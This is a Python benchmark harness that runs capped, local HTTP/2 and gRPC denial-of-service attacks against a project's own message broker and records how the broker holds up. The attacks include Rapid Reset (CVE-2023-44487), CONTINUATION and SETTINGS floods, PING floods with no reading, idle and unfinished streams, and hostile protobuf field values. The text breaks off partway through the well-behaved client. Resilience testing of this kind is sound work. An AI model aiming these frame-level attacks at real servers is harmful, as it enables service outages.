"""Hostile clients against a standalone broker (issue 17): for each attack, a well-behaved
client's unary rate alone and under the attack, the broker's RSS and CPU, and what the attack
got out of the broker. See bench/README.md, "bench.hostile".

    python -m bench.hostile [--quick] [--attacks a,b,...] [--duration S] [--rss-bound-mib M]

Processes, one set per attack (so attacks cannot leave state for each other): a fresh broker
(`bench.e2e.runner.Broker`), the well-behaved client (`--child good`: grpc.aio, a few
HealthCheck loops, closed loop) and the attacker (`--child attack NAME`: raw sockets with
hand-made HTTP/2 frames, or grpcio for the well-formed protobuf attacks). The attacker runs
at a lower priority (`--attacker-nice`) so that on a 2-core machine the comparison shows what
the BROKER does with the attack, not how much CPU the attacking process takes from the others
(a real attacker is on another machine). Every attack has a count cap and a deadline and
stops by itself; all children get SIGTERM if this process dies (PR_SET_PDEATHSIG) and are
reaped on exit, Ctrl-C or SIGTERM. Targets are reported, never asserted: exit status 0.
"""

import argparse
import asyncio
import collections
import datetime
import json
import os
import platform
import selectors
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

from bench._proc import LineWorker, proc_cpu, reap, reap_all, repo_env, system_busy
from bench.e2e.common import format_table

REPO = Path(__file__).resolve().parents[1]
RESULTS = REPO / "bench" / "results" / "hostile.json"

RATE_TARGET = 0.8            # well-behaved unary rate under attack / alone
GOOD_CONCURRENCY = 4         # HealthCheck loops in the well-behaved client
GOOD_TIMEOUT = 2.0           # s per well-behaved call: a stalled broker shows as errors
REDELIVERY_SECONDS = 10.0    # attack 8 counts redeliveries over this long (the 10 s)

HEALTH = "/danube.HealthCheck/HealthCheck"
CREATE_PRODUCER = "/danube.ProducerService/CreateProducer"
SEND_MESSAGE = "/danube.ProducerService/SendMessage"
SUBSCRIBE = "/danube.ConsumerService/Subscribe"
RECEIVE = "/danube.ConsumerService/ReceiveMessages"

# key: (finding in the issue, what it does)
ATTACKS = collections.OrderedDict([
    ("settings_flip", ("1", "16,000 open streams on one connection, then 20,000 SETTINGS "
                       "flipping INITIAL_WINDOW_SIZE 65535/65536")),
    ("unary_flood", ("2", "unary HEADERS without END_STREAM, then empty length-prefixed "
                     "messages (5 B each) within flow control, up to 256 MiB")),
    ("ping_noread", ("3a", "PING flood (up to 2,000,000) from a peer that never reads "
                     "(4 KiB receive buffer)")),
    ("continuation", ("3b", "HEADERS without END_HEADERS, then up to 5,000,000 empty "
                      "CONTINUATION frames")),
    ("unfinished_16m", ("3c", "20 streams, each a 16 MiB message announced and sent all but "
                        "its last byte")),
    ("rapid_reset", ("4a", "HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL), up to "
                     "1,000,000 streams (CVE-2023-44487)")),
    ("idle_streams", ("4b", "100 connections x 500 streams left open (HEADERS, no body)")),
    ("expired_deadline", ("5", "HEADERS grpc-timeout: 1n + DATA(END_STREAM) in one write, "
                          "up to 1,000,000 calls, at most 10,000 unanswered")),
    ("bare_tcp", ("6", "1,000 TCP connections that send nothing")),
    ("hostile_fields", ("7", "well-formed protobufs with hostile field values (8 cases, "
                        "grpcio), in a loop")),
    ("oversize_redelivery", ("8", "reliable topic, one 5 MiB message, consumer with a 4 MiB "
                             "receive limit re-receiving for 10 s")),
])


# -- HTTP/2 by hand (the attacker's side) ---------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
    0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
S_INITIAL_WINDOW_SIZE = 0x4
E_CANCEL = 8
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING",
               7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}


def h2_frame(ftype, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((ftype, flags)) + sid.to_bytes(4, "big") \
        + payload


def grpc_message(body):
    return b"\x00" + len(body).to_bytes(4, "big") + body


class Conn:
    """One raw HTTP/2 connection. The attack thread writes; a Drainer thread reads and keeps
    the bookkeeping a real peer would (server SETTINGS, windows, GOAWAY, RST_STREAM, the
    grpc-status of every response). `passive`: no preface and no answers (bare TCP)."""

    def __init__(self, port, *, passive=False, rcvbuf=None, timeout=5.0):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:                        # before connect, so the advertised window is small
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(timeout)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.t0 = time.monotonic()
        self.passive = passive
        self.port = port
        self.wlock = threading.Lock()
        self.cv = threading.Condition()
        self.buf = bytearray()
        self.pending_out = []             # SETTINGS/PING ACKs, WINDOW_UPDATEs owed
        self.unacked_data = 0
        self.frames = collections.Counter()
        self.rst_codes = collections.Counter()
        self.statuses = collections.Counter()
        self.settings_acks = 0
        self.last_settings_ack = None
        self.goaway = None                # (s after connect, error code, last stream id)
        self.closed_at = None             # EOF or error from the server, s after connect
        self.streams_closed = 0           # by the server: END_STREAM on HEADERS, or RST
        self.initial_window = 65535
        self.conn_window = 65535
        self.windows = {}                 # sid -> send window, for streams we send DATA on
        self.header_block = None
        self.enc = self.dec = None
        self.drainer = None
        if not passive:
            import hpack
            self.enc, self.dec = hpack.Encoder(), hpack.Decoder()
            self.dec.max_allowed_table_size = 1 << 20
            self.sock.sendall(PREFACE + h2_frame(SETTINGS, 0, 0))

    def headers_block(self, path, extra=()):
        return self.enc.encode([(":method", "POST"), (":scheme", "http"), (":path", path),
                                (":authority", f"127.0.0.1:{self.port}"),
                                ("content-type", "application/grpc"), ("te", "trailers"),
                                *extra])

    def send(self, data):
        """Write `data`, with any frames the reader owes the server put in front of it."""
        with self.wlock:
            if self.pending_out:
                data = b"".join(self.pending_out) + data
                self.pending_out.clear()
            self.sock.sendall(data)

    def _owe(self, frame):
        # The reader must never block on the write lock behind a writer that is blocked on a
        # full socket (the server may be waiting for us to read): try briefly, else leave it
        # for the writer's next send.
        if self.wlock.acquire(timeout=0.02):
            try:
                self.sock.sendall(b"".join(self.pending_out) + frame)
                self.pending_out.clear()
            except OSError:
                pass
            finally:
                self.wlock.release()
        else:
            self.pending_out.append(frame)

    def wait_window(self, sid, deadline):
        """Bytes we may send on `sid` now (0 at the deadline or when the connection ended)."""
        with self.cv:
            while True:
                n = min(self.conn_window, self.windows.get(sid, 0))
                if n > 0 or self.closed_at is not None or self.goaway is not None:
                    return max(n, 0)
                left = deadline - time.monotonic()
                if left <= 0:
                    return 0
                self.cv.wait(min(left, 0.2))

    def consumed(self, sid, n):
        with self.cv:
            self.conn_window -= n
            self.windows[sid] = self.windows.get(sid, 0) - n

    def on_eof(self):
        with self.cv:
            if self.closed_at is None:
                self.closed_at = time.monotonic() - self.t0
            self.cv.notify_all()

    def on_data(self, data):
        if self.passive:
            return
        buf = self.buf
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            ln = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + ln:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + ln])
            pos += 9 + ln
            self._frame(ftype, flags, sid, payload)
        del buf[:pos]

    def _frame(self, ftype, flags, sid, payload):
        self.frames[FRAME_NAMES.get(ftype, str(ftype))] += 1
        if ftype == DATA:
            self.unacked_data += len(payload)
            if self.unacked_data >= 1 << 20:
                # Credit the connection only: a unary response fits the stream's window.
                self._owe(h2_frame(WINDOW_UPDATE, 0, 0, self.unacked_data.to_bytes(4, "big")))
                self.unacked_data = 0
            if flags & END_STREAM:
                self.streams_closed += 1
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & PADDED:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & PRIORITY:
                    payload = payload[5:]
                self.header_block = bytearray(payload)
                self.header_end_stream = bool(flags & END_STREAM)
            elif self.header_block is not None:
                self.header_block += payload
            if flags & END_HEADERS and self.header_block is not None:
                for name, value in self.dec.decode(bytes(self.header_block)):
                    if name in ("grpc-status", b"grpc-status"):
                        self.statuses[int(value)] += 1
                self.header_block = None
                if self.header_end_stream:
                    self.streams_closed += 1
        elif ftype == RST_STREAM:
            self.rst_codes[int.from_bytes(payload[:4], "big")] += 1
            self.streams_closed += 1
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
                self.last_settings_ack = time.monotonic() - self.t0
                return
            with self.cv:
                for i in range(0, len(payload) - 5, 6):
                    ident = int.from_bytes(payload[i:i + 2], "big")
                    value = int.from_bytes(payload[i + 2:i + 6], "big")
                    if ident == S_INITIAL_WINDOW_SIZE:
                        delta = value - self.initial_window
                        self.initial_window = value
                        for k in self.windows:
                            self.windows[k] += delta
                self.cv.notify_all()
            self._owe(h2_frame(SETTINGS, ACK, 0))
        elif ftype == WINDOW_UPDATE:
            inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            with self.cv:
                if sid == 0:
                    self.conn_window += inc
                elif sid in self.windows:
                    self.windows[sid] += inc
                self.cv.notify_all()
        elif ftype == PING and not flags & ACK:
            self._owe(h2_frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            with self.cv:
                if self.goaway is None:
                    self.goaway = (round(time.monotonic() - self.t0, 3),
                                   int.from_bytes(payload[4:8], "big"),
                                   int.from_bytes(payload[:4], "big") & 0x7FFFFFFF)
                self.cv.notify_all()

    def open_stream(self, sid):
        """Register `sid` for send flow control at the current initial window."""
        with self.cv:
            self.windows[sid] = self.initial_window

    def summary(self):
        return {"goaway": self.goaway, "closed_by_server_at": self.closed_at,
                "frames_received": dict(self.frames), "rst_codes": dict(self.rst_codes),
                "grpc_statuses": dict(self.statuses), "streams_closed_by_server":
                self.streams_closed, "settings_acks": self.settings_acks}

    def close(self):
        if self.drainer is not None:
            self.drainer.remove(self)
        try:
            self.sock.close()
        except OSError:
            pass


class Drainer(threading.Thread):
    """Reads every registered connection (one thread, a selector) and feeds its Conn."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sel = selectors.DefaultSelector()
        self.lock = threading.Lock()
        self.stopping = False

    def add(self, conn):
        conn.sock.setblocking(True)
        with self.lock:
            self.sel.register(conn.sock, selectors.EVENT_READ, conn)
        conn.drainer = self
        return conn

    def remove(self, conn):
        with self.lock:
            try:
                self.sel.unregister(conn.sock)
            except (KeyError, ValueError):
                pass

    def run(self):
        while not self.stopping:
            with self.lock:
                if not self.sel.get_map():
                    ready = []
                else:
                    ready = self.sel.select(0)
            if not ready:
                with self.lock:
                    have = bool(self.sel.get_map())
                if have:
                    try:
                        ready = self.sel.select(0.1)
                    except (OSError, ValueError):
                        ready = []
                else:
                    time.sleep(0.05)
            for key, _ in ready:
                conn = key.data
                try:
                    data = conn.sock.recv(262144, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    with self.lock:
                        try:
                            self.sel.unregister(conn.sock)
                        except (KeyError, ValueError):
                            pass
                    conn.on_eof()
                    continue
                try:
                    conn.on_data(data)
                except Exception as exc:  # noqa: BLE001 - a bad frame must not stop the reader
                    conn.frames["parse_error:" + type(exc).__name__] += 1

    def stop(self):
        self.stopping = True


# -- the attacks (each runs in the attacker process, bounded by `cap` and `deadline`) -------

def open_conn(port, drainer, **kw):
    conn = Conn(port, **kw)
    drainer.add(conn)
    time.sleep(0.05)                      # the server's SETTINGS, so windows are known
    return conn


def hold(conns, deadline):
    """Keep the connections open until the deadline (or until the server closed them all)."""
    while time.monotonic() < deadline:
        if conns and all(c.closed_at is not None for c in conns):
            return
        time.sleep(0.05)


def attack_settings_flip(port, deadline, started, streams=16000, settings=20000):
    d = Drainer()
    d.start()
    c = open_conn(port, d)
    started()
    t0 = time.monotonic()
    sid, batch = 1, []
    sent_streams = sent_settings = 0
    try:
        for i in range(streams):
            batch.append(h2_frame(HEADERS, END_HEADERS, sid, c.headers_block(HEALTH)))
            sid += 2
            if len(batch) == 500 or i == streams - 1:
                c.send(b"".join(batch))
                sent_streams += len(batch)
                batch = []
            if time.monotonic() >= deadline:
                break
        t_streams = time.monotonic() - t0
        sent_settings = 0
        for i in range(0, settings, 200):
            if time.monotonic() >= deadline:
                break
            n = min(200, settings - i)
            c.send(b"".join(h2_frame(SETTINGS, 0, 0, S_INITIAL_WINDOW_SIZE.to_bytes(2, "big")
                                     + (65535 + (j & 1)).to_bytes(4, "big"))
                            for j in range(i, i + n)))
            sent_settings += n
        t_settings = time.monotonic() - t0
    except OSError as exc:
        t_streams = t_settings = time.monotonic() - t0
        c.frames["send_error:" + type(exc).__name__] += 1
    # The server ACKs every SETTINGS frame after applying it: the last ACK's time is when
    # it had worked through the flood.
    hold([c], deadline)
    out = {"streams_sent": sent_streams, "settings_sent": sent_settings,
           "sent_in_s": round(t_settings, 3), "streams_sent_in_s": round(t_streams, 3),
           "last_settings_ack_s": c.last_settings_ack, **c.summary()}
    # Our own initial SETTINGS is ACKed too.
    out["settings_acked"] = max(0, c.settings_acks - 1)
    out["outcome"] = (f"{out['settings_acked']:,}/{out['settings_sent']:,} SETTINGS acked"
                      + (f" (last at {c.last_settings_ack:.1f}s)" if c.last_settings_ack
                         else "") + goaway_text(c))
    c.close()
    d.stop()
    return out


def goaway_text(c):
    if c.goaway:
        return f"; GOAWAY code {c.goaway[1]} at {c.goaway[0]:.2f}s"
    if c.closed_at is not None:
        return f"; closed at {c.closed_at:.2f}s"
    return "; no GOAWAY"


def attack_unary_flood(port, deadline, started, cap=256 << 20):
    d = Drainer()
    d.start()
    c = open_conn(port, d)
    started()
    c.open_stream(1)
    c.send(h2_frame(HEADERS, END_HEADERS, 1, c.headers_block(HEALTH)))
    # Empty messages: 5 bytes on the wire each, the most messages per byte a peer can send.
    chunk = b"\x00\x00\x00\x00\x00" * 3276           # 16,380 B: one maximum-size frame
    sent = 0
    try:
        while sent < cap and c.rst_codes == {} and time.monotonic() < deadline:
            room = c.wait_window(1, deadline)
            if room < len(chunk):
                if room <= 0:
                    break
                # Less than a frame of window left: send whole messages only.
                part = chunk[:room - room % 5]
                if not part:
                    time.sleep(0.01)
                    continue
            else:
                part = chunk
            c.consumed(1, len(part))
            c.send(h2_frame(DATA, 0, 1, part))
            sent += len(part)
    except OSError as exc:
        c.frames["send_error:" + type(exc).__name__] += 1
    t_sent = time.monotonic() - c.t0
    hold([c], deadline)
    out = {"bytes_sent": sent, "messages_sent": sent // 5, "sent_until_s": round(t_sent, 2),
           **c.summary()}
    reset = f"; stream reset {dict(c.rst_codes)}" if c.rst_codes else "; stream not reset"
    out["outcome"] = f"{sent // 5:,} msgs ({sent / 2**20:.0f} MiB) accepted" + reset \
        + goaway_text(c)
    c.close()
    d.stop()
    return out


def attack_ping_noread(port, deadline, started, cap=2_000_000):
    # No reader at all, and a 4 KiB receive buffer: the server's PING ACKs fill it at once,
    # and from then on a server that keeps reading PINGs queues their ACKs in its memory.
    c = Conn(port, rcvbuf=4096, timeout=0.5)
    started()
    batch = b"".join(h2_frame(PING, 0, 0, i.to_bytes(8, "big")) for i in range(1000))
    sent, blocked_at, err = 0, None, None
    while sent < cap and time.monotonic() < deadline:
        try:
            c.sock.sendall(batch)
            sent += 1000
        except socket.timeout:
            # Our send buffer is full: the server stopped reading us (backpressure). Keep
            # trying until the deadline in case it resumes.
            if blocked_at is None:
                blocked_at = time.monotonic() - c.t0
        except OSError as exc:
            err = repr(exc)
            break
    out = {"pings_sent": sent, "send_blocked_at_s": blocked_at, "send_error": err,
           "outcome": f"{sent:,} PINGs written"
           + (f"; server stopped reading at {blocked_at:.2f}s" if blocked_at is not None
              else "; server kept reading")
           + (f"; {err}" if err else "")}
    c.close()
    return out


def attack_continuation(port, deadline, started, cap=5_000_000):
    d = Drainer()
    d.start()
    c = open_conn(port, d)
    started()
    # HEADERS without END_HEADERS: the header block stays open, then empty CONTINUATIONs
    # that never close it (each one costs the server a frame, the attacker 9 bytes).
    c.send(h2_frame(HEADERS, 0, 1, c.headers_block(HEALTH)))
    batch = h2_frame(CONTINUATION, 0, 1) * 2000
    sent, err = 0, None
    while sent < cap and c.goaway is None and c.closed_at is None \
            and time.monotonic() < deadline:
        try:
            c.send(batch)
            sent += 2000
        except OSError as exc:
            err = repr(exc)
            break
    hold([c], deadline)
    out = {"continuations_sent": sent, "send_error": err, **c.summary(),
           "outcome": f"{sent:,} CONTINUATIONs written" + goaway_text(c)}
    c.close()
    d.stop()
    return out


def attack_unfinished_16m(port, deadline, started, streams=20, size=16 * 1024 * 1024 - 64):
    d = Drainer()
    d.start()
    c = open_conn(port, d)
    started()
    sids = [1 + 2 * i for i in range(streams)]
    left = {}
    for sid in sids:
        c.open_stream(sid)
        # A length prefix just under the transport's 16 MiB cap; the body stops one byte
        # short, so the message never completes and the server holds what it buffered.
        first = b"\x00" + size.to_bytes(4, "big")
        c.send(h2_frame(HEADERS, END_HEADERS, sid, c.headers_block(HEALTH))
               + h2_frame(DATA, 0, sid, first))
        c.consumed(sid, len(first))
        left[sid] = size - 1
    zeros = bytes(16384)
    sent = 0
    try:
        while left and time.monotonic() < deadline and c.goaway is None \
                and c.closed_at is None:
            progressed = False
            for sid in list(left):
                if sid in c.rst_codes or c.windows.get(sid, 0) <= 0 or c.conn_window <= 0:
                    continue
                n = min(16384, left[sid], c.windows[sid], c.conn_window)
                c.consumed(sid, n)
                c.send(h2_frame(DATA, 0, sid, zeros[:n]))
                sent += n
                left[sid] -= n
                if not left[sid]:
                    del left[sid]
                progressed = True
            if not progressed:
                if c.wait_window(next(iter(left)), min(deadline, time.monotonic() + 0.2)) == 0:
                    if all(c.windows.get(s, 0) <= 0 for s in left) or c.conn_window <= 0:
                        time.sleep(0.05)
    except OSError as exc:
        c.frames["send_error:" + type(exc).__name__] += 1
    t_sent = time.monotonic() - c.t0
    hold([c], deadline)
    out = {"bytes_sent": sent, "sent_until_s": round(t_sent, 2),
           "streams_completed_but_last_byte": streams - len(left), **c.summary()}
    out["outcome"] = (f"{sent / 2**20:.0f} MiB of {streams} x 16 MiB accepted; "
                      f"{sum(c.rst_codes.values())} streams reset" + goaway_text(c))
    c.close()
    d.stop()
    return out


def attack_rapid_reset(port, deadline, started, cap=1_000_000):
    d = Drainer()
    d.start()
    c = open_conn(port, d)
    started()
    sid, opened, err = 1, 0, None
    body = h2_frame  # (local alias: the loop below is the attacker's hot path)
    empty = grpc_message(b"")
    t0 = time.monotonic()
    while opened < cap and c.goaway is None and c.closed_at is None \
            and time.monotonic() < deadline:
        batch = []
        for _ in range(100):
            # A complete request (so the server dispatches a handler), cancelled at once:
            # the client's concurrency limit never applies, the server's work does.
            batch.append(body(HEADERS, END_HEADERS, sid, c.headers_block(HEALTH))
                         + body(DATA, END_STREAM, sid, empty)
                         + body(RST_STREAM, 0, sid, E_CANCEL.to_bytes(4, "big")))
            sid += 2
        try:
            c.send(b"".join(batch))
        except OSError as exc:
            err = repr(exc)
            break
        opened += 100
    elapsed = time.monotonic() - t0
    hold([c], deadline)
    out = {"streams_reset": opened, "elapsed_s": round(elapsed, 2),
           "rate_per_s": round(opened / elapsed) if elapsed else None, "send_error": err,
           **c.summary()}
    out["outcome"] = (f"{opened:,} streams opened+reset ({out['rate_per_s'] or 0:,}/s)"
                      + goaway_text(c))
    c.close()
    d.stop()
    return out


def attack_idle_streams(port, deadline, started, conns=100, per_conn=500):
    d = Drainer()
    d.start()
    cs, opened = [], 0
    started()
    for _ in range(conns):
        if time.monotonic() >= deadline:
            break
        try:
            c = open_conn(port, d) if not cs else d.add(Conn(port))
        except OSError as exc:
            return {"outcome": f"connect failed after {len(cs)}: {exc!r}"}
        cs.append(c)
        # Calls that never send their request: each is a stream the server keeps open.
        c.send(b"".join(h2_frame(HEADERS, END_HEADERS, 1 + 2 * i, c.headers_block(HEALTH))
                        for i in range(per_conn)))
        opened += per_conn
    t_open = max(c.t0 for c in cs) - min(c.t0 for c in cs) if cs else 0
    hold(cs, deadline)
    resets = sum(sum(c.rst_codes.values()) for c in cs)
    goaways = sum(1 for c in cs if c.goaway)
    closed = sum(1 for c in cs if c.closed_at is not None)
    out = {"connections": len(cs), "streams_opened": opened, "opened_in_s": round(t_open, 2),
           "streams_reset_by_server": resets, "goaways": goaways,
           "connections_closed_by_server": closed,
           "outcome": f"{opened:,} streams on {len(cs)} conns; {resets:,} reset, "
                      f"{goaways} GOAWAY, {closed} closed by server"}
    for c in cs:
        c.close()
    d.stop()
    return out


def attack_expired_deadline(port, deadline, started, cap=1_000_000, inflight=10000):
    d = Drainer()
    d.start()
    c = open_conn(port, d)
    started()
    empty = grpc_message(b"")
    sid, sent, err = 1, 0, None
    t0 = time.monotonic()
    while sent < cap and c.goaway is None and c.closed_at is None \
            and time.monotonic() < deadline:
        if sent - c.streams_closed >= inflight:
            # Each call should be answered (DEADLINE_EXCEEDED) at once: keep at most
            # `inflight` unanswered, below the server's 16,384 concurrent streams, so what
            # is measured is the deadline handling, not REFUSED_STREAM.
            time.sleep(0.001)
            continue
        # HEADERS and the whole request in one write: the deadline has expired before the
        # server can even start the handler.
        batch = []
        for _ in range(100):
            batch.append(h2_frame(HEADERS, END_HEADERS, sid,
                                  c.headers_block(HEALTH, [("grpc-timeout", "1n")]))
                         + h2_frame(DATA, END_STREAM, sid, empty))
            sid += 2
        try:
            c.send(b"".join(batch))
        except OSError as exc:
            err = repr(exc)
            break
        sent += 100
    elapsed = time.monotonic() - t0
    hold([c], min(deadline, time.monotonic() + 1.0))
    out = {"calls_sent": sent, "elapsed_s": round(elapsed, 2),
           "rate_per_s": round(sent / elapsed) if elapsed else None, "send_error": err,
           **c.summary()}
    st = ", ".join(f"{k}:{v:,}" for k, v in sorted(c.statuses.items()))
    out["unanswered"] = sent - c.streams_closed
    out["outcome"] = (f"{sent:,} calls ({out['rate_per_s'] or 0:,}/s), "
                      f"{out['unanswered']:,} unanswered after 1s; grpc-status {{{st}}}"
                      + goaway_text(c))
    hold([c], deadline)
    c.close()
    d.stop()
    return out


def attack_bare_tcp(port, deadline, started, count=1000):
    d = Drainer()
    d.start()
    cs, err = [], None
    started()
    for _ in range(count):
        if time.monotonic() >= deadline:
            break
        try:
            cs.append(d.add(Conn(port, passive=True)))
        except OSError as exc:
            err = repr(exc)
            break
    hold(cs, deadline)
    closed = sorted(c.closed_at for c in cs if c.closed_at is not None)
    out = {"connections": len(cs), "connect_error": err, "closed_by_server": len(closed),
           "first_close_s": closed[0] if closed else None,
           "median_close_s": closed[len(closed) // 2] if closed else None}
    out["outcome"] = (f"{len(cs):,} connections held; {len(closed)} closed by server"
                      + (f" (first at {closed[0]:.1f}s)" if closed else "")
                      + (f"; {err}" if err else ""))
    for c in cs:
        c.close()
    d.stop()
    return out


def _grpc_method(ch, path, resp_cls, stream=False):
    make = ch.unary_stream if stream else ch.unary_unary
    return make(path, request_serializer=lambda m: m.SerializeToString(),
                response_deserializer=resp_cls.FromString)


def attack_hostile_fields(port, deadline, started):
    import grpc
    from danube.proto import DanubeApi_pb2 as pb
    addr = f"127.0.0.1:{port}"
    ch = grpc.insecure_channel(addr)
    create = _grpc_method(ch, CREATE_PRODUCER, pb.ProducerResponse)
    subscribe = _grpc_method(ch, SUBSCRIBE, pb.ConsumerResponse)
    health = _grpc_method(ch, HEALTH, pb.HealthCheckResponse)
    topic = f"/default/hostile-fields-{uuid.uuid4().hex[:8]}"
    create(pb.ProducerRequest(producer_name="fields-setup", topic_name=topic), timeout=10)
    n = iter(range(10**9))

    def u(prefix):
        return f"{prefix}-{next(n)}"
    # Each field value is one a protobuf decoder accepts (open enums keep unknown numbers,
    # strings are any UTF-8) but the broker's own rules should refuse with a client error.
    cases = {
        "Subscribe subscription='a/b'": lambda: subscribe(pb.ConsumerRequest(
            topic_name=topic, consumer_name=u("c"), subscription="a/b"), timeout=5),
        "CreateProducer dispatch_strategy=2": lambda: create(pb.ProducerRequest(
            producer_name=u("p"), topic_name=topic + "-ds", dispatch_strategy=2), timeout=5),
        "CreateProducer access_mode=7": lambda: create(pb.ProducerRequest(
            producer_name=u("p"), topic_name=topic, producer_access_mode=7), timeout=5),
        "Subscribe subscription_type=9": lambda: subscribe(pb.ConsumerRequest(
            topic_name=topic, consumer_name=u("c"), subscription=u("s"),
            subscription_type=9), timeout=5),
        "Subscribe KeyShared key_filters=['[']": lambda: subscribe(pb.ConsumerRequest(
            topic_name=topic, consumer_name=u("c"), subscription=u("ks"),
            subscription_type=3, key_filters=["["]), timeout=5),
        "Subscribe subscription=''": lambda: subscribe(pb.ConsumerRequest(
            topic_name=topic, consumer_name=u("c"), subscription=""), timeout=5),
        "CreateProducer pinned_version=2**32-1": lambda: create(pb.ProducerRequest(
            producer_name=u("p"), topic_name=topic, schema_ref=pb.SchemaReference(
                subject="../x", pinned_version=2**32 - 1)), timeout=5),
        "HealthCheck client=5 id=2**64-1": lambda: health(pb.HealthCheckRequest(
            client=5, id=2**64 - 1), timeout=5),
    }
    started()
    codes = {k: collections.Counter() for k in cases}
    details = {}
    calls = 0
    while time.monotonic() < deadline and calls < 20000:
        for name, call in cases.items():
            try:
                call()
                codes[name]["OK"] += 1
            except grpc.RpcError as exc:
                codes[name][exc.code().name] += 1
                if exc.code() == grpc.StatusCode.INTERNAL:
                    details.setdefault(name, (exc.details() or "")[:160])
            calls += 1
    ch.close()
    internal = sum(c["INTERNAL"] for c in codes.values())
    bad = sorted(k for k, c in codes.items() if c["INTERNAL"])
    return {"calls": calls, "codes": {k: dict(v) for k, v in codes.items()},
            "internal_details": details, "internal": internal,
            "outcome": f"{internal:,} INTERNAL of {calls:,} calls"
                       + (f" ({len(bad)}/{len(cases)} cases: {'; '.join(bad)})" if bad
                          else "")}


def attack_oversize_redelivery(port, deadline, started, cap=10000):
    import grpc
    from danube.proto import DanubeApi_pb2 as pb
    addr = f"127.0.0.1:{port}"
    topic = f"/default/hostile-big-{uuid.uuid4().hex[:8]}"
    ch = grpc.insecure_channel(addr)
    small = grpc.insecure_channel(addr, options=[("grpc.max_receive_message_length",
                                                  4 * 1024 * 1024)])
    create = _grpc_method(ch, CREATE_PRODUCER, pb.ProducerResponse)
    send = _grpc_method(ch, SEND_MESSAGE, pb.MessageResponse)
    subscribe = _grpc_method(small, SUBSCRIBE, pb.ConsumerResponse)
    receive = _grpc_method(small, RECEIVE, pb.StreamMessage, stream=True)
    producer_id = create(pb.ProducerRequest(producer_name="big-producer", topic_name=topic,
                                            dispatch_strategy=1), timeout=10).producer_id

    def sub():
        return subscribe(pb.ConsumerRequest(topic_name=topic, consumer_name="small-consumer",
                                            subscription="small"), timeout=10).consumer_id
    consumer_id = sub()                    # subscribed before the message exists
    send(pb.StreamMessage(request_id=1, msg_id=pb.MsgID(producer_id=producer_id,
                                                        topic_name=topic),
                          payload=b"x" * (5 * 1024 * 1024), producer_name="big-producer"),
         timeout=30)
    started()
    # A client that retries what failed, as clients do: every failure is the broker sending
    # the same 5 MiB again to a consumer that can never take it.
    attempts, codes, received = 0, collections.Counter(), 0
    end = min(deadline, time.monotonic() + REDELIVERY_SECONDS)
    while attempts < cap and time.monotonic() < end:
        attempts += 1
        try:
            for _ in receive(pb.ReceiveRequest(request_id=attempts, consumer_id=consumer_id),
                             timeout=max(0.1, end - time.monotonic())):
                received += 1
        except grpc.RpcError as exc:
            codes[exc.code().name] += 1
            if exc.code() == grpc.StatusCode.NOT_FOUND:
                try:
                    consumer_id = sub()
                except grpc.RpcError:
                    time.sleep(0.05)
    ch.close()
    small.close()
    return {"topic": topic, "receive_attempts": attempts, "client_codes": dict(codes),
            "messages_received": received, "seconds": REDELIVERY_SECONDS,
            "outcome": f"{attempts:,} receive attempts in {REDELIVERY_SECONDS:.0f}s "
                       f"({', '.join(f'{k}:{v}' for k, v in codes.items())})"}


ATTACK_FUNCS = {
    "settings_flip": attack_settings_flip, "unary_flood": attack_unary_flood,
    "ping_noread": attack_ping_noread, "continuation": attack_continuation,
    "unfinished_16m": attack_unfinished_16m, "rapid_reset": attack_rapid_reset,
    "idle_streams": attack_idle_streams, "expired_deadline": attack_expired_deadline,
    "bare_tcp": attack_bare_tcp, "hostile_fields": attack_hostile_fields,
    "oversize_redelivery": attack_oversize_redelivery,
}


def emit(obj):
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def child_attack(name, port, seconds, nice):
    if nice:
        os.nice(nice)
    # Stop by ourselves: the deadline bounds the attack, the alarm bounds everything else
    # (a broker that stopped answering must not keep this process alive).
    signal.alarm(int(seconds) + 30)
    threading.Thread(target=_exit_on_stdin_eof, daemon=True).start()
    deadline_box = {}

    def started():
        deadline_box["t"] = time.monotonic()
        emit({"event": "started"})
    t_begin = time.monotonic()
    try:
        result = ATTACK_FUNCS[name](port, t_begin + seconds, started)
    except Exception as exc:  # noqa: BLE001 - reported as the attack's outcome
        result = {"outcome": f"attack failed: {exc!r}"[:300]}
        if "t" not in deadline_box:
            emit({"event": "started"})
    result["attack_cpu_s"] = round(proc_cpu(os.getpid()), 2)
    emit({"event": "result", **result})


def _exit_on_stdin_eof():
    for line in sys.stdin:
        if '"exit"' in line:
            break
    os._exit(0)


# -- the well-behaved client ------------------------------------------------------------------

async def good_client(port):
    import grpc
    from danube.proto import DanubeApi_pb2 as pb
    ch = grpc.aio.insecure_channel(f"127.0.0.1:{port}")
    create = _grpc_method(ch, CREATE_PRODUCER, pb.ProducerResponse)
